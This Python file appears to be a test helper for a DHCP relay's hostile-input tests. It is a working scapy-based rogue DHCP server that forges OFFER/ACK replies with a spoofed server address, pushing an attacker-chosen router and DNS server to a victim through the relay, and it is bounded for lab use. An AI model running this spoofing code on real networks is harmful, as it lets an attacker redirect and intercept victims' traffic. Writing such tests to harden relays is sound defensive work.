"""A rogue DHCP server on the client segment, written with scapy (issue 10 items 1 and 8).

It watches the segment for one victim's broadcast DISCOVER and REQUEST and answers each
with an OFFER / ACK that it sends to the relay's downstream address (not to the client),
with the IPv4 source spoofed as the real server's and giaddr = the relay's address: what a
server reply relayed back through the relay looks like. A relay that takes such a packet
for a server reply relays it to the client (and a caching relay caches it).

Run by test_hostile.py inside a lab namespace, with the interpreter that has scapy
(Debian's python3-scapy): it stops by itself after --duration seconds or --max-replies
replies, whichever comes first, and is stopped by its PID otherwise. It logs one JSON line
per forged reply to --log, and "ready" on stdout once it is capturing.
"""

from __future__ import annotations

import argparse
import json
import sys
import time

from scapy.all import BOOTP, DHCP, IP, UDP, Ether, conf, get_if_hwaddr, sniff  # noqa: E402

conf.verb = 0


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--iface", required=True)
    ap.add_argument("--victim", required=True, help="chaddr (MAC) whose requests are answered")
    ap.add_argument("--relay-mac", required=True)
    ap.add_argument("--relay-ip", required=True, help="the relay's downstream address (giaddr)")
    ap.add_argument("--spoof-src", required=True, help="IPv4 source: the real server's address")
    ap.add_argument("--yiaddr", required=True, help="the address offered to the victim")
    ap.add_argument("--router", required=True, help="option 3 and 6 in the forged replies")
    ap.add_argument("--lease", type=int, default=86400)
    ap.add_argument("--duration", type=float, required=True)
    ap.add_argument("--max-replies", type=int, default=200)
    ap.add_argument("--log", required=True)
    a = ap.parse_args()

    victim = bytes(int(x, 16) for x in a.victim.split(":"))
    sock = conf.L2socket(iface=a.iface)
    # Our own MAC as the Ethernet source (scapy would look for a route to fill it in; this
    # host has no address, and a bridge drops a frame from 00:00:00:00:00:00).
    own_mac = get_if_hwaddr(a.iface)
    sent = 0
    log = open(a.log, "a", buffering=1)
    deadline = time.monotonic() + a.duration

    def answer(pkt) -> None:
        nonlocal sent
        if sent >= a.max_replies or BOOTP not in pkt or DHCP not in pkt:
            return
        b = pkt[BOOTP]
        if b.op != 1 or bytes(b.chaddr)[:6] != victim or b.giaddr != "0.0.0.0":
            return
        mtype = next((o[1] for o in pkt[DHCP].options
                      if isinstance(o, tuple) and o[0] == "message-type"), None)
        kind = {1: "offer", 3: "ack"}.get(mtype)
        if kind is None:
            return
        reply = (Ether(src=own_mac, dst=a.relay_mac) /
                 IP(src=a.spoof_src, dst=a.relay_ip) /
                 UDP(sport=67, dport=67) /
                 BOOTP(op=2, htype=1, hlen=6, xid=b.xid, flags=b.flags, yiaddr=a.yiaddr,
                       siaddr=a.spoof_src, giaddr=a.relay_ip, chaddr=bytes(b.chaddr)) /
                 DHCP(options=[("message-type", kind), ("server_id", a.spoof_src),
                               ("lease_time", a.lease), ("renewal_time", a.lease // 2),
                               ("rebinding_time", a.lease * 7 // 8),
                               ("subnet_mask", "255.255.255.0"), ("router", a.router),
                               ("name_server", a.router), "end"]))
        sock.send(reply)
        sent += 1
        log.write(json.dumps({"t": time.time(), "sent": kind, "xid": b.xid,
                              "yiaddr": a.yiaddr, "src_mac": own_mac}) + "\n")

    def started() -> None:
        print("ready", flush=True)

    sniff(iface=a.iface, filter="udp and dst port 67", prn=answer, store=False,
          timeout=a.duration, started_callback=started,
          stop_filter=lambda _p: sent >= a.max_replies or time.monotonic() > deadline)
    sock.close()
    print(f"done: {sent} forged replies", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
